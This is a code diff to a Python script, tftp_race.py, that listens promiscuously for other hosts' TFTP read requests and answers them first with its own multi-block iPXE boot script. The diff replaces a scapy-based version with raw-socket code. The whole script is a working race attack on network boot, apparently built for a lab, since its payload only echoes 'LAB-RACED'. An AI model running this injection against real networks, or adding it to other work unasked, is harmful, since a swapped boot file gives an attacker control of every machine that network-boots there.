@@ -1,27 +1,45 @@
 """Answers every TFTP read request that it overhears, from its own address, with a file of its own.
 
-    tftp_race.py --mac MAC --ip IP
+    tftp_race.py --ip IP [--blocks N]
 """
 import argparse
-import time
+import select
+import socket
+import struct
 
-from scapy.all import IP, UDP, AsyncSniffer, Ether, Raw, conf
-
-conf.verb = 0
 parser = argparse.ArgumentParser()
-parser.add_argument("--mac", required=True)
 parser.add_argument("--ip", required=True)
+parser.add_argument("--blocks", type=int, default=60)
 args = parser.parse_args()
-socket = conf.L2socket(iface="eth0")
+
+BLOCK = 512
+content = b"#!ipxe\necho LAB-RACED\n".ljust(BLOCK * args.blocks - 100, b"#")
+
+wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+wire.bind(("eth0", 0))
+wire.setsockopt(263, 23, 1)  # PACKET_IGNORE_OUTGOING
+server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+server.bind((args.ip, 50069))
 
 
-def heard(frame):
-    payload = bytes(frame[UDP].payload)
-    if payload[:2] == b"\x00\x01" and frame[IP].src != args.ip:
-        data = b"\x00\x03\x00\x01" + b"#!ipxe\necho LAB-RACED\n"
-        socket.send(Ether(src=args.mac, dst=frame[Ether].src) / IP(src=args.ip, dst=frame[IP].src) / UDP(sport=50069, dport=frame[UDP].sport) / Raw(data))
+def block(number):
+    return struct.pack("!HH", 3, number) + content[(number - 1) * BLOCK : number * BLOCK]
 
 
-AsyncSniffer(iface="eth0", filter="udp dst port 69", prn=heard, store=False, promisc=True, started_callback=lambda: print("ready", flush=True)).start()
+print("ready", flush=True)
 while True:
-    time.sleep(1)
+    for heard in select.select([wire, server], [], [])[0]:
+        if heard is server:
+            packet, client = server.recvfrom(2000)
+            opcode, number = struct.unpack("!HH", packet[:4])
+            if opcode == 4 and number < args.blocks:
+                server.sendto(block(number + 1), client)
+            continue
+        frame = wire.recv(2000)
+        udp = 14 + (frame[14] & 15) * 4
+        source = socket.inet_ntoa(frame[26:30])
+        if frame[23] != 17 or source == args.ip:
+            continue
+        port, destination = struct.unpack("!HH", frame[udp : udp + 4])
+        if destination == 69 and frame[udp + 8 : udp + 10] == b"\x00\x01":
+            server.sendto(block(1), (source, port))
